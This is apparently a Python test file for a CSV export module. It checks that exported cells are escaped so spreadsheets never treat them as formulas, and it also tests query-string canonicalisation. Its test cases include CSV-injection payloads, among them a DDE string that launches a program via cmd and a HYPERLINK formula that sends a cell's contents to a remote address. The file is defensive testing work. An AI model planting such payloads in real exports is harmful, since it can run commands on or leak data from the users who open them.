"""Which addresses are the same view; which cells a spreadsheet would run."""

import csv
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kolony.ground.frame.csv_export import csv_lines
from kolony.ground.frame.rules import canonical, harmless

CORPUS = Path(__file__).resolve().parents[4] / "shared/corpora/csv-injection/Intruder/csv-payload.txt"
OWN_CASES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
]


def payloads():
    return OWN_CASES + (CORPUS.read_text().splitlines() if CORPUS.exists() else [])


def read_back(lines):
    return list(csv.reader(StringIO("".join(lines).removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("payload", payloads())
def test_no_exported_cell_begins_like_a_formula(payload):
    (_head, (cell,)) = read_back(csv_lines([payload], [("words", str)]))
    assert not cell.lstrip(" \u00a0\ufeff").startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
    )
    assert cell.removeprefix("'") == payload


def test_a_formula_in_a_column_head_is_harmless_too():
    (head, *_rows) = read_back(csv_lines([], [("=1+1", str)]))
    assert head == ["'=1+1"]


def test_numbers_stay_numbers_and_nothing_stays_empty():
    (_head, row) = read_back(
        csv_lines([(-12, 0.5, None, True)], [(str(at), lambda r, at=at: r[at]) for at in range(4)])
    )
    assert row == ["-12", "0.5", "", "1"]


@given(st.text())
def test_any_text_comes_back_as_it_was_but_for_the_apostrophe(text):
    (_head, cells) = read_back(csv_lines([text], [("words", str), ("more", lambda _: "x")]))
    assert cells[0] == harmless(text)
    assert harmless(text) in (text, f"'{text}")


def test_place_page_and_empty_values_do_not_make_a_view():
    assert canonical("view=mine&page=3&open=7&kind=kol&q=&sort=-score") == "kind=kol&sort=-score"


def test_the_order_of_filters_does_not_matter_but_repeats_do():
    assert canonical("b=2&a=1&a=3") == canonical("a=1&a=3&b=2") == "a=1&a=3&b=2"


@given(st.text())
def test_the_canonical_form_is_its_own_canonical_form(query):
    assert canonical(canonical(query)) == canonical(query)
